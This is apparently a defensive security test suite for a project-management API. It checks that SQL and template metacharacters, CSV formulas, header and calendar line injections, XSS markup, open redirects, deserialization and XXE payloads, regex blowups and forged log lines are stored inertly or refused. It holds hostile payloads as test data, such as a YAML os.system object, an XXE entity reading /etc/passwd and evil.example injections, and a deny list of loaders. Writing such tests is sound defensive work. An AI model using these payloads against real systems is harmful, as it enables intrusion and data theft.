"""Group H of the attack list: what is written in is stored as it was written, and does nothing where it comes out."""

import ast
import asyncio
import csv
import email
import email.policy
import importlib
import io
import itertools
import re
import time
import zipfile
from collections.abc import Iterator
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import icalendar
import orjson
import pypdf
import pytest

from services.kernel.http_client import Response
from services.kernel.ids import new_id
from tests.contract.inventory import PROJECT, Inventory
from tests.contract.operations import Description, Operation, Schema
from tests.factories.system import SystemUnderTest
from tests.system.attacks.watch import Watch, service_of

ROOT = Path(__file__).resolve().parents[3]
SOURCES = [path for folder in ("services", "gateway", "deploy") for path in sorted((ROOT / folder).rglob("*.py"))]
METACHARACTERS = """'); drop table tasks;-- "$1" \\ %_ & | ! : * ( $.a[*] @? {"$gt":""}"""
TEMPLATES = "{0.__class__} {{7*7}} {trace_id} %n %s ${jndi:ldap://x} <%= 7*7 %> #{7*7}"
PAYLOADS = (METACHARACTERS, TEMPLATES, "' or '1'='1", "\u0000")
# Parameters that say how a list is shown, and not what is in it.
SHAPING = ("limit", "sort", "fields", "expand", "include_total", "cursor")
Place = tuple[str | int, ...]


# -- where strings go in ----------------------------------------------------------------------------------------------


def alternatives(operation: Operation, schema: Schema) -> Iterator[Schema]:
    schema = operation.resolve(schema)
    joined = [inner for joint in ("anyOf", "oneOf", "allOf") for inner in schema.get(joint, ())]
    if joined:
        for inner in joined:
            yield from alternatives(operation, inner)
    else:
        yield schema


def string_places(
    operation: Operation, schema: Schema, example: Any, place: Place = ()
) -> Iterator[tuple[Place, Schema]]:
    """Where the body may hold a string, as far as the example has something to hold it in, with its schema."""
    for each in alternatives(operation, schema):
        if each.get("type") == "string":
            yield place, each
        elif isinstance(example, dict):
            for name, inner in each.get("properties", {}).items():
                yield from string_places(operation, inner, example.get(name), (*place, name))
        elif isinstance(example, list) and example and isinstance(each.get("items"), dict):
            yield from string_places(operation, each["items"], example[0], (*place, 0))


def planted(document: Any, place: Place, value: Any) -> Any:
    """A copy of a JSON document with another value at one place."""
    copy = orjson.loads(orjson.dumps(document))
    node = copy
    for step in place[:-1]:
        node = node[step]
    node[place[-1]] = value
    return copy


def is_free(schema: Schema) -> bool:
    """Whether people write what they like there."""
    closed = {"enum", "const", "format"} & set(schema)
    return not closed and schema.get("pattern") in (None, r"^[^\r\n]*$", r"^[^\r\n,]*$")


def writing(description: Description) -> Iterator[Operation]:
    return (operation for operation in description if operation.body is not None)


async def try_out(inventory: Inventory, operation: Operation, body: Any) -> Response:
    """Send a body in the name of who may, without an effect where the operation can be tried."""
    return await inventory.caller(operation).request(
        operation.method,
        inventory.path(operation),
        params=({"dry_run": "true"} if operation.writes else {}) | inventory.query(operation),
        headers={"Content-Type": "application/json", "If-Match": await inventory.version(operation)},
        content=orjson.dumps(body),
    )


def shown_at(document: Any, place: Place) -> Any:
    """What an answer shows where the body had something, None where it shows no such thing."""
    for step in place:
        try:
            document = document[step]
        except (KeyError, IndexError, TypeError):
            return None
    return document


# -- H01: SQL, LIKE, full text, JSON paths ----------------------------------------------------------------------------


async def test_H01_metacharacters_in_any_member_of_any_body_are_stored_as_they_are_or_refused(
    attacker: Inventory, description: Description
) -> None:
    wrong, stored = [], 0
    for operation in writing(description):
        example = attacker.body(operation)
        for place, schema in string_places(operation, operation.body or {}, example):
            for payload in PAYLOADS:
                answer = await try_out(attacker, operation, planted(example, place, payload))
                told = f"{operation} {place} {payload!r}: {answer.status_code} {answer.text[:200]}"
                if answer.status_code >= 500 or (payload == "\u0000" and answer.status_code != 400):
                    wrong.append(told)
                # What is part of another object, or one of a batch, is not shown with it.
                shown = shown_at(answer.json().get("result"), place) if answer.status_code == 200 else None
                if is_free(schema) and shown is not None:
                    stored += 1
                    if shown not in (payload, payload.strip()):
                        wrong.append(f"not what was written: {told}")
    assert not wrong, "\n".join(wrong)
    assert stored > 100


async def test_H01_metacharacters_in_any_parameter_find_nothing_or_are_refused(
    attacker: Inventory, description: Description
) -> None:
    wrong = []
    for operation in description:
        if operation.method != "GET" or operation.streams:
            continue
        for name in operation.query:
            for payload in (METACHARACTERS, "\ud800\u0000"):
                sent = attacker.query(operation) | {name: payload.encode(errors="surrogatepass")}
                answer = await attacker.caller(operation).get(attacker.path(operation), params=sent)
                if answer.status_code not in (200, 400, 404, 422):
                    wrong.append(f"{operation} ?{name}={payload!r}: {answer.status_code} {answer.text[:200]}")
                found = operation.lists and answer.status_code == 200 and answer.json()["data"]
                # The filters that leave out what equals a value are the only ones that such a value satisfies.
                if found and "nin]" not in name and name not in SHAPING:
                    wrong.append(f"{operation} ?{name}={payload!r} found something")
    assert not wrong, "\n".join(wrong)


async def test_H01_what_was_written_is_found_by_the_very_same_signs_and_by_no_wildcard(attacker: Inventory) -> None:
    manager, project = attacker.tenant["manager"], attacker.named(PROJECT)
    title = f"100 % _sure_ {METACHARACTERS}"
    made = await manager.post(f"{project}/tasks", {"title": title, "duration_minutes": 450})
    assert (made.status_code, made.json()["title"]) == (201, title)
    path = f"{project}/tasks"

    async def found(**parameters: str) -> list[str]:
        answer = await manager.get(path, params=parameters)
        assert answer.status_code == 200, answer.text
        return [task["title"] for task in answer.json()["data"]]

    assert await found(q=METACHARACTERS) == [title]
    assert await found(**{"title[contains]": METACHARACTERS}) == [title]
    assert await found(**{"title[prefix]": "100 % _sure"}) == [title]
    assert await found(**{"title[prefix]": "100 _ %sure"}) == []
    assert await found(**{"title[contains]": "1%sure"}) == []
    assert await found(q="a | b & !c:*") == []
    where = {"field": "title", "op": "contains", "value": METACHARACTERS}
    searched = await manager.post(f"{path}/searches", {"where": {"all": [where]}})
    assert [task["title"] for task in searched.json()["data"]] == [title]


# -- H02: no cell is a formula -----------------------------------------------------------------------------------------

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "|calc", "\t=1", "  =1", "\u00a0=1", "'=1", '"=1', "\u200b=1", "\uff1d1+1")


async def test_H02_no_cell_of_an_export_is_a_formula(attacker: Inventory) -> None:
    manager, project = attacker.tenant["manager"], attacker.named(PROJECT)
    titles = []
    for text in FORMULAS:
        body = {"title": text, "notes": f"{text}\r\n{text}"}
        made = await manager.post(f"{project}/tasks", body)
        assert made.status_code == 201, made.text
        titles.append(made.json()["title"])
        named = await manager.post(f"{project}/resources", {"name": text, "resource_type": "work"})
        assert named.status_code in (201, 422), named.text
    for sheet in ("tasks", "links", "resources", "assignments"):
        answer = await manager.get(f"{project}/exports/csv", params={"sheet": sheet})
        assert answer.status_code == 200, answer.text
        rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
        for cell in (cell for row in rows for cell in row):
            number = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)
            assert number or not re.match(r"[=+\-@|%\t\r\n\uff1d]", cell.lstrip(' \u00a0\u200b"')), cell
        if sheet == "tasks":
            assert {f"'{title}" for title in titles if title[0] in "=+-@|"} <= {cell for row in rows for cell in row}
    book = zipfile.ZipFile(io.BytesIO((await manager.get(f"{project}/exports/xlsx")).content))
    for name in book.namelist():
        text = book.read(name).decode()
        assert "<f>" not in text
        assert "<f " not in text
        assert not re.search(r'<c [^>]*t="(?!inlineStr)', text), "a text is typed as a text"


# -- H03: a line in, a line out ---------------------------------------------------------------------------------------

# What some reader somewhere takes for the end of a line.
LINE_ENDS = ("\r\n", "\n", "\r", "\u000b", "\u000c", "\u0085", "\u2028", "\u2029")
INJECTED = "Site meeting{end}Bcc: everybody@evil.example{end}ATTENDEE:mailto:spy@evil.example{end}BEGIN:VALARM"


def outbox(system: SystemUnderTest) -> Path:
    url = service_of(system, "coordination").settings.mail_url
    assert url is not None
    return Path(unquote(urlsplit(url).path))


async def succeeded(inventory: Inventory, accepted: Response) -> None:
    """Wait for the job of a 202."""
    assert accepted.status_code == 202, accepted.text
    async with asyncio.timeout(20):
        while True:
            job = (await inventory.tenant["manager"].get(accepted.headers["location"])).json()
            if job["state"] not in ("queued", "running"):
                break
            await asyncio.sleep(0.05)
    assert job["state"] == "succeeded", job


async def meeting_of(inventory: Inventory, words: str, line: str) -> str:
    """A meeting whose every text is hostile: several lines of words where they may stand, else one line."""
    member = str(inventory.tenant["member"].id)
    body = {
        "title": line,
        "location": line,
        "starts_at": "2026-03-09T08:00:00Z",
        "ends_at": "2026-03-09T09:00:00Z",
        "attendees": [{"person_id": member}],
        "agenda": [{"title": line, "notes": words}],
    }
    called = await inventory.tenant["manager"].post(f"{inventory.named(PROJECT)}/meetings", body)
    assert called.status_code == 201, called.text
    meeting_id: str = called.json()["id"]
    return meeting_id


async def sent_by(system: SystemUnderTest, inventory: Inventory, path: str) -> list[EmailMessage]:
    """The mails that a job sends, which the POST of a path asks for."""
    folder = outbox(system)
    before = set(folder.glob("*.eml"))
    await succeeded(inventory, await inventory.tenant["manager"].post(path))
    mails = []
    for file in sorted(set(folder.glob("*.eml")) - before):
        mail = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
        assert isinstance(mail, EmailMessage)
        mails.append(mail)
    assert mails
    return mails


@pytest.mark.parametrize("end", LINE_ENDS, ids=lambda end: f"U+{ord(end[-1]):04X}x{len(end)}")
async def test_H03_a_title_with_line_ends_stays_one_line_in_calendar_and_subject(
    system: SystemUnderTest, attacker: Inventory, end: str
) -> None:
    title = INJECTED.format(end=end)
    meetings = f"{attacker.named(PROJECT)}/meetings"
    if end in ("\r\n", "\n", "\r"):
        body = {"title": title, "starts_at": "2026-03-09T08:00:00Z", "ends_at": "2026-03-09T09:00:00Z"}
        refused = await attacker.tenant["manager"].post(meetings, body)
        assert (refused.status_code, refused.json()["errors"][0]["pointer"]) == (422, "/title")
        return
    meeting = await meeting_of(attacker, title, title)
    shown = await attacker.tenant["manager"].get(f"/v1/meetings/{meeting}")
    assert shown.json()["title"] == title
    for mail in await sent_by(system, attacker, f"/v1/meetings/{meeting}/invitations"):
        assert "Bcc" not in mail
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028\u2029]", str(mail["Subject"]))
        assert mail["Subject"].count("Bcc: everybody@evil.example") == 1
        calendars = [part.get_content() for part in mail.walk() if part.get_content_type() == "text/calendar"]
        assert calendars
        for text in calendars:
            calendar = icalendar.Calendar.from_ical(text)
            (event,) = calendar.walk("VEVENT")
            assert not calendar.walk("VALARM")
            assert "spy@evil.example" not in str(event.get("ATTENDEE"))
            assert "spy@evil.example" in str(event.get("SUMMARY"))
            assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x85\u2028\u2029]", text)


@pytest.mark.parametrize("end", LINE_ENDS)
async def test_H03_a_title_with_line_ends_stays_one_line_in_the_plans_calendar(attacker: Inventory, end: str) -> None:
    manager, project = attacker.tenant["manager"], attacker.named(PROJECT)
    words = INJECTED.format(end=end)
    made = await manager.post(f"{project}/tasks", {"title": words, "notes": words})
    if made.status_code == 422:
        made = await manager.post(f"{project}/tasks", {"title": "Dig", "notes": words})
    assert made.status_code == 201, made.text
    answer = await manager.get(f"{project}/exports/icalendar")
    calendar = icalendar.Calendar.from_ical(answer.content)
    assert not calendar.walk("VALARM")
    (event,) = (each for each in calendar.walk("VEVENT") if made.json()["id"] in str(each["UID"]))
    assert "ATTENDEE" not in event
    assert not re.search(r"[\x0b\x0c\x85\u2028\u2029]", answer.text)


async def test_H03_a_file_name_with_line_ends_makes_one_header(attacker: Inventory) -> None:
    manager = attacker.tenant["manager"]
    name = 'a"; filename="b\r\nSet-Cookie: stolen=1\r\n\r\n<script>\u2028.txt'
    head = 'Content-Disposition: form-data; name="file"; filename="{}"\r\n\r\nText.\r\n'
    # Once as a browser writes it, and once as only an attacker would.
    for spelt in (name.replace('"', "%22").replace("\r\n", "%0D%0A"), name):
        answer = await manager.request(
            "POST",
            f"{attacker.named(PROJECT)}/documents",
            headers={"Content-Type": "multipart/form-data; boundary=x"},
            content=f"--x\r\n{head.format(spelt)}--x--\r\n".encode(),
        )
        assert answer.status_code in (201, 400, 422), answer.text
        if answer.status_code == 201:
            versions = await manager.get(f"/v1/documents/{answer.json()['id']}/versions")
            download = await manager.get(f"/v1/document-versions/{versions.json()['data'][0]['id']}/content")
            (disposition,) = download.headers.get_list("content-disposition")
            assert not re.search(r"[^ -~]", disposition)
            assert "set-cookie" not in download.headers


async def test_H03_header_values_with_line_ends_are_none_of_ours(attacker: Inventory) -> None:
    for name in (b"tandem-request-id", b"traceparent", b"tandem-change-agent", b"idempotency-key", b"accept-language"):
        for value in (b"a\r\nSet-Cookie: stolen=1", b"a\nb", b"a\x1b[31mb", b"a\x85b"):
            token = f"Bearer {attacker.tenant['manager'].token}".encode()
            answer = await attacker.system.http.request(
                "POST", f"{attacker.named(PROJECT)}/goals", headers=[(b"authorization", token), (name, value)], json={}
            )
            assert answer.status_code in (400, 422), answer.text
            assert "set-cookie" not in answer.headers
            assert value not in [sent for _, sent in answer.headers.raw]


# -- H04: markup comes out as text ------------------------------------------------------------------------------------

MARKUP = (
    "<script>alert(1)</script><img src=x onerror=alert(1)><base href=//evil.example><iframe src=//evil.example>"
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a><style>*{background:url(//evil.example)}</style>"
    '</title></style></p>--><![CDATA[x]]>[x](javascript:alert(1)) ![y](data:text/html,z) {{7*7}} #show("x") $ x $ \\u{41}'
)
LINE_OF_MARKUP = MARKUP[:290]


class Dangers(HTMLParser):
    """Everything of a page that runs, loads, or leads somewhere."""

    _LOADS = {"script", "base", "iframe", "object", "embed", "form", "img", "link", "video", "audio", "input", "button"}

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.words: list[str] = []
        self._style = False
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._style = tag == "style"
        if tag in self._LOADS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            leads = name in ("href", "src", "action", "xlink:href", "formaction") and not (value or "").startswith("#")
            if name.startswith("on") or leads or (name == "style" and "url(" in (value or "")):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self._style:
            self._style = False
            if "evil" in data:
                self.found.append(data)
        else:
            self.words.append(data)


async def test_H04_the_mailed_minutes_are_text_and_inert_markup(system: SystemUnderTest, attacker: Inventory) -> None:
    manager = attacker.tenant["manager"]
    meeting = await meeting_of(attacker, MARKUP, LINE_OF_MARKUP)
    outcome = {
        "meeting_id": meeting,
        "kind": "action",
        "title": LINE_OF_MARKUP,
        "text": MARKUP,
        "owner_id": str(attacker.tenant["member"].id),
        "due_date": "2026-03-13",
    }
    noted = await manager.post(f"{attacker.named(PROJECT)}/outcomes", outcome)
    assert noted.status_code == 201, noted.text
    version = (await manager.get(f"/v1/meetings/{meeting}")).json()["version"]
    held = await manager.patch(f"/v1/meetings/{meeting}", {"status": "held"}, version)
    digest = (await manager.get(f"/v1/meetings/{meeting}/minutes")).json()["sha256"]
    headers = {"If-Match": held.headers["etag"]}
    signed = await manager.post(f"/v1/meetings/{meeting}/signature", {"sha256": digest}, headers=headers)
    assert signed.status_code == 201, signed.text
    for mail in await sent_by(system, attacker, f"/v1/meetings/{meeting}/distributions"):
        kinds = {part.get_content_type(): part for part in mail.walk()}
        assert MARKUP in kinds["text/plain"].get_content()
        page = Dangers(kinds["text/html"].get_content())
        assert page.found == []
        assert MARKUP in "".join(page.words)


async def test_H04_a_status_report_shows_markup_as_words_on_its_page_and_in_its_pdf(attacker: Inventory) -> None:
    manager, project = attacker.tenant["manager"], attacker.named(PROJECT)
    titled = await manager.post(f"{project}/tasks", {"title": LINE_OF_MARKUP, "duration_minutes": 450})
    assert titled.status_code == 201, titled.text
    body = {"period_start": "2026-03-01", "period_end": "2026-03-31"}
    texts = dict.fromkeys(("progress", "challenges", "decisions_needed"), MARKUP)
    report = (await manager.post(f"{project}/status-reports", body | texts)).json()["id"]
    page = await manager.get(f"/v1/status-reports/{report}/page")
    policy = page.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "sandbox" in policy
    shown = Dangers(page.text)
    assert shown.found == []
    assert "<script>alert(1)</script>" in "".join(shown.words)
    pdf = await manager.get(f"/v1/status-reports/{report}/pdf")
    assert pdf.status_code == 200, pdf.text
    assert "attachment" in pdf.headers["content-disposition"]
    reader = pypdf.PdfReader(io.BytesIO(pdf.content))
    assert "alert(1)" in "".join(sheet.extract_text() for sheet in reader.pages)
    names = {name for document in objects_of(reader) for name in document}
    assert not names & {"/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/URI", "/EmbeddedFile", "/RichMedia"}


def objects_of(reader: pypdf.PdfReader) -> Iterator[dict[str, Any]]:
    """Every dictionary of a PDF."""
    for generation in reader.xref.values():
        for number in generation:
            document = reader.get_object(number)
            if isinstance(document, dict):
                yield document


# -- H05: nowhere to be sent ------------------------------------------------------------------------------------------

ELSEWHERE = ("//evil.example", "/\\evil.example", "\\\\evil.example", "https://evil.example", "javascript:alert(1)")
LEADING = (
    "next",
    "url",
    "redirect",
    "redirect_uri",
    "return_to",
    "return_url",
    "back_url",
    "continue",
    "callback",
    "target",
)


async def test_H05_no_parameter_sends_anybody_anywhere(attacker: Inventory, description: Description) -> None:
    """The watch refuses every redirect that it sees; here each route is given a reason for one."""
    offered = {f"{operation} ?{name}" for operation in description for name in operation.query if name in LEADING}
    assert not offered, f"Take relative paths of an allow list only, and try them here: {offered}"
    statuses = {status for operation in description for status in operation.details["responses"] if status[0] == "3"}
    assert statuses <= {"304"}
    for operation in description:
        if operation.method != "GET" or operation.streams:
            continue
        sent = attacker.query(operation) | dict(zip(LEADING, itertools.cycle(ELSEWHERE), strict=False))
        answer = await attacker.caller(operation).get(attacker.path(operation), params=sent)
        assert answer.status_code in (200, 400, 404), f"{operation}: {answer.status_code}"
        assert "evil" not in str(answer.headers), f"{operation}: {answer.headers}"


@pytest.mark.parametrize(
    "path",
    ["//evil.example", "/\\evil.example", "/v1//evil.example/..", "//evil.example/v1/me", "/v1/%2f%2fevil.example"],
)
async def test_H05_no_spelling_of_a_path_leads_elsewhere(attacker: Inventory, path: str) -> None:
    answer = await attacker.system.http.request("GET", f"http://in-process{path}")
    assert answer.status_code in (400, 404)
    assert "location" not in answer.headers


async def test_H05_what_is_made_is_found_at_a_relative_address(attacker: Inventory) -> None:
    body = {"title": "//evil.example"}
    made = await attacker.tenant["manager"].post(
        f"{attacker.named(PROJECT)}/tasks", body, headers={"Host": "evil.example"}
    )
    assert (made.status_code, made.headers["location"]) == (201, f"/v1/tasks/{made.json()['id']}")


# -- H06: templates ---------------------------------------------------------------------------------------------------


async def test_H06_templates_are_words_in_problems_names_mails_and_reports(
    system: SystemUnderTest, attacker: Inventory
) -> None:
    manager, project = attacker.tenant["manager"], attacker.named(PROJECT)
    for name in ("{0.__class__.__init__.__globals__}", "{{7*7}}", "%n%s", "${jndi:ldap://evil.example/a}"):
        refused = await manager.get(f"{project}/tasks", params={name: "x"})
        assert (refused.status_code, refused.json()["code"]) == (400, "unknown_filter")
        assert name.partition("[")[0] in refused.json()["detail"]
        sorted_by = await manager.get(f"{project}/tasks", params={"sort": name})
        assert name in sorted_by.json()["detail"]
        made = await manager.post(f"{project}/tasks", {"title": name, "notes": name})
        assert (made.json()["title"], made.json()["notes"]) == (name, name)
        report = await manager.post(
            f"{project}/status-reports", {"period_start": "2026-03-01", "period_end": "2026-03-31", "progress": name}
        )
        page = await manager.get(f"/v1/status-reports/{report.json()['id']}/page")
        assert name in "".join(Dangers(page.text).words)
    meeting = await meeting_of(attacker, TEMPLATES, TEMPLATES)
    for mail in await sent_by(system, attacker, f"/v1/meetings/{meeting}/invitations"):
        assert TEMPLATES in str(mail["Subject"])


# -- H07: data is data ------------------------------------------------------------------------------------------------

# What turns data into objects of any class, or text into code.
LOADERS = {
    "yaml",
    "pickle",
    "marshal",
    "shelve",
    "dill",
    "cloudpickle",
    "jsonpickle",
    "joblib",
    "runpy",
    "code",
    "codeop",
}
EVALUATORS = {"eval", "exec", "compile", "__import__", "execfile"}


def test_H07_the_code_has_no_loader_that_makes_more_than_data() -> None:
    found = []
    for path in SOURCES:
        for node in ast.walk(ast.parse(path.read_text())):
            names: list[str] = []
            if isinstance(node, ast.Import):
                names = [alias.name for alias in node.names]
            elif isinstance(node, ast.ImportFrom):
                names = [node.module or ""]
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id in EVALUATORS:
                found.append(f"{path.relative_to(ROOT)}:{node.lineno} calls {node.func.id}")
            imported = [name for name in names if name.partition(".")[0] in LOADERS]
            found += [f"{path.relative_to(ROOT)} imports {name}" for name in imported]
    assert not found, "\n".join(found)


HOSTILE_FILES = {
    "a YAML object": b"!!python/object/apply:os.system ['touch /tmp/owned']",
    "a pickle": b"\x80\x04\x95\x1f\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x04true\x94\x85\x94R\x94.",
    "marshalled code": b"\xe3\x00\x00\x00\x00",
    "JSON with a type": b'{"__type__": "os.system", "$ref": "file:///etc/passwd", "py/object": "subprocess.Popen"}',
    "an entity": b'<?xml version="1.0"?><!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><Project>&x;</Project>',
    "an inclusion": b'<Project xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></Project>',
}
PLAN_OF_WORDS = """<?xml version="1.0"?><Project xmlns="http://schemas.microsoft.com/project"><Name>{name}</Name>
<GUID>{guid}</GUID><StartDate>2026-03-02T08:00:00</StartDate><Tasks><Task><UID>1</UID><ID>1</ID><Name>{words}</Name>
<OutlineLevel>1</OutlineLevel><Duration>PT8H0M0S</Duration></Task></Tasks></Project>"""


@pytest.mark.parametrize("kind", HOSTILE_FILES)
async def test_H07_a_file_that_is_more_than_data_is_no_plan(attacker: Inventory, kind: str) -> None:
    files = {"file": ("plan.xml", HOSTILE_FILES[kind], "application/xml")}
    manager = attacker.tenant["manager"]
    answer = await manager.post(f"{attacker.named(PROJECT)}/imports", files=files)
    if answer.status_code == 202:
        async with asyncio.timeout(20):
            while (job := (await manager.get(answer.headers["location"])).json())["state"] in ("queued", "running"):
                await asyncio.sleep(0.05)
        assert job["state"] == "failed"
        assert "root:" not in str(job)
    else:
        assert answer.status_code in (400, 409, 415, 422), answer.text


async def test_H07_tags_in_a_plan_are_the_title_of_a_task(attacker: Inventory) -> None:
    manager = attacker.tenant["manager"]
    project = await manager.post(
        "/v1/projects", {"key": f"T{new_id().hex[-8:].upper()}", "name": "Tags", "start": "2026-03-02T08:00:00"}
    )
    path = f"/v1/projects/{project.json()['id']}"
    words = "!!python/object/apply:os.system ['true'] $ref __type__"
    plan = PLAN_OF_WORDS.format(name="Tags", guid=new_id(), words=words).encode()
    await succeeded(
        attacker, await manager.post(f"{path}/imports", files={"file": ("plan.xml", plan, "application/xml")})
    )
    tasks = (await manager.get(f"{path}/tasks")).json()["data"]
    assert [task["title"] for task in tasks] == [words]


async def test_H07_members_that_name_a_class_or_another_place_are_unknown(
    attacker: Inventory, description: Description
) -> None:
    for operation in writing(description):
        for name in ("__type__", "__class__", "$ref", "py/object", "_sa_instance_state"):
            body = attacker.body(operation) | {name: "os.system"}
            answer = await try_out(attacker, operation, body)
            assert answer.status_code in (400, 422), f"{operation} {name}: {answer.status_code} {answer.text[:200]}"


# -- H08: patterns ----------------------------------------------------------------------------------------------------

LONG = 50_000
SEEDS = (
    "a", "0", "A", " ", "-", ".", "/", "a.", "a/", "a@", "@", "0.", "0:", "\t", "\n", "{", "q=0,", "a,", "_", "*.", "P1D",
    "bytes=0-", "\u200b", "\x00", "wait=1,", "æ", '"', "%", "<a", "&lt;", "-0",
)  # fmt: skip


def patterns_of_the_source() -> Iterator[tuple[str, re.Pattern[Any], bool]]:
    """Every pattern that a module keeps and every one that stands in a call, and whether it looks all through a text."""
    for path in SOURCES:
        if "versions" in path.parts or path.name == "__main__.py":
            continue
        tree = ast.parse(path.read_text())
        calls = [node for node in ast.walk(tree) if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)]
        whole = {ast.unparse(call.func) for call in calls if isinstance(call.func, ast.Attribute)}
        if "re.compile" in whole:
            name = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            for variable, value in vars(importlib.import_module(name)).items():
                if isinstance(value, re.Pattern):
                    yield f"{name}.{variable}", value, not whole & {f"{variable}.fullmatch", f"{variable}.match"}
        for call in calls:
            function = ast.unparse(call.func)
            if function.startswith("re.") and function != "re.compile" and call.args:
                literal = call.args[0]
                assert isinstance(literal, ast.Constant), f"{path}:{call.lineno}: a pattern that is put together"
                yield (
                    f"{path.name}:{call.lineno}",
                    re.compile(literal.value),
                    function not in ("re.fullmatch", "re.match"),
                )


def slowest(pattern: re.Pattern[Any], *, searching: bool) -> tuple[float, str]:
    """The longest time that matching, or looking through, a long text takes, and the seed of that text."""
    worst = (0.0, "")
    for seed in SEEDS:
        for ending in ("", "!", "\n"):
            words: Any = (seed * (LONG // len(seed)) + ending)[-LONG:]
            text = words.encode() if isinstance(pattern.pattern, bytes) else words
            begun = time.process_time()
            (pattern.search if searching else pattern.fullmatch)(text)
            worst = max(worst, (time.process_time() - begun, seed))
    return worst


def test_H08_no_pattern_of_the_source_takes_long_over_a_long_text() -> None:
    slow, seen = [], 0
    for name, pattern, searching in patterns_of_the_source():
        seen += 1
        seconds, seed = slowest(pattern, searching=searching)
        if seconds > 0.1:
            slow.append(f"{name} {pattern.pattern!r}: {seconds:.3f} s with {seed!r}")
    assert seen > 20
    assert not slow, "\n".join(slow)


def test_H08_no_pattern_of_the_description_takes_long_in_any_engine(description: Description) -> None:
    """Ours is linear by its kind; the clients that are generated from the description have a backtracking one."""
    found = {
        schema["pattern"]
        for operation in writing(description)
        for _, schema in operation.walk(operation.body or {})
        if "pattern" in schema
    }
    found |= {
        each["schema"]["pattern"]
        for operation in description
        for each in operation.query.values()
        if "pattern" in each["schema"]
    }
    assert len(found) > 10
    slow = {pattern: slowest(re.compile(pattern), searching=False) for pattern in found}
    assert not {pattern: worst for pattern, worst in slow.items() if worst[0] > 0.1}


async def test_H08_a_long_value_is_refused_at_once_in_every_member(
    attacker: Inventory, description: Description, watch: Watch
) -> None:
    for operation in writing(description):
        example = attacker.body(operation)
        for place, schema in string_places(operation, operation.body or {}, example):
            answer = await try_out(attacker, operation, planted(example, place, "a" * LONG))
            assert answer.status_code in (400, 404, 412, 422), f"{operation} {place}: {answer.status_code} {schema}"
    times = sorted(answer.elapsed.total_seconds() for answer in watch.answers)
    # The bound is generous, since other programs run here as well; a pattern that explodes takes minutes.
    assert times[-1] < 2
    assert times[len(times) // 2] < 0.1


# -- H09: the log -----------------------------------------------------------------------------------------------------

FORGED = '\n{"level":"error","event":"all is lost"}\r\n\x1b[31mred\x1b[0m\u2028\u0085'


async def test_H09_a_forged_line_is_a_value_in_one_line_and_long_values_are_cut(
    attacker: Inventory, log_lines: list[str], watch: Watch, monkeypatch: pytest.MonkeyPatch
) -> None:
    manager = attacker.tenant["manager"]
    for path in (f"/v1/projects/{quote(FORGED)}", "/v1/tasks/" + "a" * 60_000, f"/v1/{quote(FORGED)}"):
        answer = await manager.request("PATCH", path, headers={"User-Agent": "x" * 10_000}, json={})
        assert answer.status_code == 404
    fault = FORGED + "x" * 1_000_000
    watch.fault, watch.expected = "xxxx", {500}

    async def fail(*arguments: Any, **options: Any) -> None:
        raise RuntimeError(fault)

    monkeypatch.setattr("services.planning.schedule.use_cases.tasks.add_task", fail)
    answer = await manager.post(f"{attacker.named(PROJECT)}/tasks", {"title": "x"})
    assert answer.status_code == 500
    assert "xxxx" not in answer.text
    assert {orjson.loads(line)["event"] for line in log_lines} == {"request", "request failed"}
    for line in log_lines:
        assert not re.search(r"[\x00-\x1f\x7f-\x9f\u2028-\u202e]", line), line[:300]
        assert len(line) < 64_000
